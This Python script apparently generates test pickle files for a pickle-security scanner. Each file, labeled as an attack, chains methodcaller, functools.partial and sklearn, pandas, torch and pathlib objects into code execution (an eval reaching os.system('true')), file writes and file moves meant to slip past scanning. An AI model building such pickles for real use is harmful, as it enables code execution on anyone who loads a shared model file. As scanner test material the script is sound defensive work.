# What is kept for the program to call: keywords of a methodcaller that no pickler writes so, methods of estimators that
# call their parts by names of their state, a path's that move files.
from pickle_asm import *

FRAME = stack_global("pandas.core.frame", "DataFrame") + EMPTY_TUPLE + NEWOBJ
EXPRESSION = "@inspect.os.system('true')"


def called(module, name, *arguments):
    return stack_global(module, name) + args(*(raw(item) if isinstance(item, bytes) else item for item in arguments)) + REDUCE


def partial(function, *arguments):
    return called("functools", "partial", function, *arguments)


def pickled_partial(function, *arguments):
    body = called("functools", "partial", function + put(3))
    given = args(*(raw(item) if isinstance(item, bytes) else item for item in arguments))
    return body + args(raw(get(3)), raw(given), raw(EMPTY_DICT), None) + BUILD


def instance(module, name, **state):
    pairs = b"".join(text(key) + (item if isinstance(item, bytes) else constant(item)) for key, item in state.items())
    return stack_global(module, name) + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT + MARK + pairs + SETITEMS + BUILD


def method(owner, name):
    return called("builtins", "getattr", owner, name)


def methodcaller(*names, **keywords):
    if not keywords:
        return called("operator", "methodcaller", *names)
    return stack_global("operator", "methodcaller") + args(*names) + constant(keywords) + NEWOBJ_EX


def attack(name, code):
    save(name + ".pkl", proto(4) + code + STOP)


PATH = called("pathlib", "PosixPath", "a")
STACKING = instance("sklearn.ensemble._stacking", "StackingClassifier", stack_method_=["write_text"],
                    estimators_=EMPTY_LIST + PATH + APPEND)
PIPELINE = instance("sklearn.pipeline", "Pipeline", memory="folder", steps=[])
COUNTER = instance("sklearn.feature_extraction.text", "CountVectorizer", input="filename")

attack("keywords", methodcaller("transform", func="eval", expr=EXPRESSION))
attack("keywords_partial", partial(methodcaller("transform", func="eval", expr=EXPRESSION), FRAME))
attack("keywords_plot", methodcaller("plot", backend="this"))
attack("keywords_any", methodcaller("strip", chars=" "))
attack("no_arguments", methodcaller("transform"))
attack("replace", partial(methodcaller("replace", "b"), PATH))
attack("replace_of_anything", methodcaller("replace", "b"))
attack("walk", methodcaller("walk"))
attack("stacking", partial(method(STACKING, "transform"), "data"))
attack("stacking_pickled", pickled_partial(method(STACKING, "transform"), "data"))
attack("stacking_of_the_class", partial(method(stack_global("sklearn.ensemble._stacking", "StackingClassifier"), "transform"), STACKING, "data"))
attack("pipeline", method(PIPELINE, "fit"))
attack("pipeline_by_name", pickled_partial(methodcaller("fit", 1, 2), PIPELINE))
attack("vectorizer", method(COUNTER, "decode"))
attack("vectorizer_by_name", pickled_partial(methodcaller("decode", "path"), COUNTER))
attack("module", method(instance("torch.nn.modules.linear", "Identity"), "add_module"))
attack("series_map", partial(method(called("pandas", "Series"), "map"), methodcaller("replace", "a", "b")))
